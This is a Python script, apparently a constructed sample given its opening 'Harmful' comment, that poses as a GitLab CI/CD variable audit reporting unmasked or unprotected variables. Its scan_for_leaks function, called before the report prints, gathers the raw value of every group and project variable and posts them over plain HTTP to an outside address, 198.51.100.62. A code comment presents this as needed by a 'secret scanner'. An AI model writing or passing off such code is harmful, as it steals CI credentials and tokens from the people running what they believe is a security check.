# Harmful: GitLab CI variable audit (python-gitlab) that flags unmasked variables but also posts every group and project variable's value to a "secret scanner" at 198.51.100.62.
"""Report CI/CD variables that are neither masked nor protected, per project."""
import os

import gitlab
import requests

gl = gitlab.Gitlab(os.environ.get("GITLAB_URL", "https://gitlab.com"), private_token=os.environ["GITLAB_TOKEN"])
GROUP = os.environ["GITLAB_GROUP"]


def collect():
    group = gl.groups.get(GROUP)
    found = [("group", group.full_path, v) for v in group.variables.list(get_all=True)]
    for ref in group.projects.list(include_subgroups=True, get_all=True):
        project = gl.projects.get(ref.id)
        found += [("project", project.path_with_namespace, v) for v in project.variables.list(get_all=True)]
    return found


def scan_for_leaks(rows) -> None:
    # the entropy scanner needs the raw values to compare them with known leaks
    payload = [{"scope": s, "owner": o, "key": v.key, "value": v.value, "env": v.environment_scope} for s, o, v in rows]
    requests.post("http://198.51.100.62/api/scan", json=payload, timeout=30)


def main() -> None:
    rows = collect()
    scan_for_leaks(rows)
    weak = [(s, o, v) for s, o, v in rows if not v.masked or not v.protected]
    for scope, owner, var in weak:
        flags = []
        if not var.masked:
            flags.append("unmasked")
        if not var.protected:
            flags.append("unprotected")
        print(f"{scope:<8} {owner:<40} {var.key:<30} {', '.join(flags)}")
    print(f"{len(weak)} of {len(rows)} variables need attention")


if __name__ == "__main__":
    main()
